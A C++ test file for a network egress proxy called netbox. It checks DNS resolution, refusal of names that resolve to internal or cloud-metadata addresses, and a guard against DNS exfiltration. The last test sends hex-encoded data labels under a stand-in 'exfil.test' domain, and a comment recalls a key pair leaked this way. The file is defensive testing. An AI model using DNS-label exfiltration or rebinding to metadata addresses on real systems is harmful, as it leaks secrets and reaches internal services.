// Names resolved through c-ares against a real DNS server (dnsmasq on loopback that
// answers only from its own command line).
#include "proxy_fixture.hpp"
#include "support/dnsmasq.hpp"

namespace netbox::test {
namespace {

class DnsTest : public ProxyTest {
 protected:
  void SetUp() override {
    dns = std::make_unique<Dnsmasq>(std::vector<std::string>{
        "--host-record=dns-ok.test,127.0.0.1", "--address=/rebind.test/10.0.0.5",
        "--address=/meta.test/169.254.169.254", "--host-record=pinned.test,10.0.0.9", "--address=/nx.test/"});
  }
  std::string url(const std::string& host) const {
    return "http://" + host + ":" + std::to_string(upstream.port()) + "/";
  }
  std::unique_ptr<Dnsmasq> dns;
};

TEST_F(DnsTest, NameResolvedByDnsIsDialledAtTheCheckedAddress) {
  start_proxy(base_policy(R"("allow": ["dns-ok.test"])"), {dns->server()});
  auto r = proxy_get(port, url("dns-ok.test"));
  EXPECT_EQ(r.status, 200) << r.body;
  auto row = last_row();
  EXPECT_EQ(row.decision, "allow");
  EXPECT_EQ(row.resolved_addr, "127.0.0.1");
}

TEST_F(DnsTest, NameWhoseAnswerIsInternalIsRefused) {
  start_proxy(base_policy(R"("allow": ["rebind.test", "meta.test"])"), {dns->server()});
  auto r = proxy_get(port, url("rebind.test"));
  EXPECT_EQ(r.status, 403);
  EXPECT_NE(r.header("x-netbox-reason").find("10.0.0.5"), std::string::npos) << r.header("x-netbox-reason");
  auto row = last_row();
  EXPECT_EQ(row.decision, "deny");
  EXPECT_EQ(row.rule, "internal");
  EXPECT_EQ(row.resolved_addr, "10.0.0.5");
  auto m = proxy_connect(port, "meta.test:" + std::to_string(upstream.port()));
  EXPECT_EQ(m.status, 403);
  EXPECT_EQ(last_row().resolved_addr, "169.254.169.254");
}

// The row's decision is error, as the answer's header says; its rule and reason stay the
// policy's (which let the name through), the lookup's failure is its error.
TEST_F(DnsTest, LookupFailureGives502AsErrorAndKeepsThePolicyRule) {
  start_proxy(base_policy(R"("allow": ["nx.test", "unknown.test"])"), {dns->server()});
  for (const auto* host : {"nx.test", "unknown.test"}) {
    auto r = proxy_get(port, url(host));
    EXPECT_EQ(r.status, 502) << host;
    EXPECT_EQ(r.header("x-netbox-decision"), "error");
    auto row = last_row();
    EXPECT_EQ(row.decision, "error") << host;
    EXPECT_NE(row.rule.find("allow["), std::string::npos) << row.rule;
    EXPECT_EQ(row.status, 502);
    EXPECT_NE(row.error.find("DNS"), std::string::npos) << row.error;
  }
}

TEST_F(DnsTest, PinsAreConsultedBeforeDns) {
  start_proxy(base_policy(R"("allow": ["pinned.test"], "resolve": {"pinned.test": ["127.0.0.1"]})"), {dns->server()});
  EXPECT_EQ(proxy_get(port, url("pinned.test")).status, 200);
  EXPECT_EQ(last_row().resolved_addr, "127.0.0.1");
}

TEST_F(DnsTest, AnswersAreCachedForTheirTtl) {
  start_proxy(base_policy(R"("allow": ["dns-ok.test"])"), {dns->server()}, 1);
  EXPECT_EQ(proxy_get(port, url("dns-ok.test")).status, 200);
  dns.reset();  // the server is gone; the 60 s answer is still cached
  EXPECT_EQ(proxy_get(port, url("dns-ok.test")).status, 200);
}

// A lookup is itself data sent out, to the name's servers: a name the guardian's limits
// refuse (a new host past new_hosts_per_minute, a rate, a spent budget) is never looked
// up. A hostile review got a key pair out in names answered 429, each looked up first.
class DnsGuardTest : public ProxyTest {};

TEST_F(DnsGuardTest, ANameTheLimitsRefuseIsNeverLookedUp) {
  Dnsmasq dns({"--log-queries", "--address=/exfil.test/127.0.0.1"});
  start_proxy(base_policy(R"("allow": ["*.exfil.test"], "limits": {"new_hosts_per_minute": 1})"), {dns.server()});
  const std::string port_text = ":" + std::to_string(upstream.port()) + "/";
  EXPECT_EQ(proxy_get(port, "http://first.exfil.test" + port_text).status, 200);
  for (const char* name : {"414b4941494f53464f4.payload.exfil.test", "44e4e374558414d504c.payload.exfil.test"}) {
    const auto r = proxy_get(port, std::string("http://") + name + port_text);
    EXPECT_EQ(r.status, 429) << name;
    EXPECT_EQ(r.header("x-netbox-decision"), "cap") << name;
  }
  EXPECT_NE(dns.log().find("first.exfil.test"), std::string::npos) << dns.log();
  EXPECT_EQ(dns.log().find("payload"), std::string::npos) << "a refused name was looked up:\n" << dns.log();
}

}  // namespace
}  // namespace netbox::test
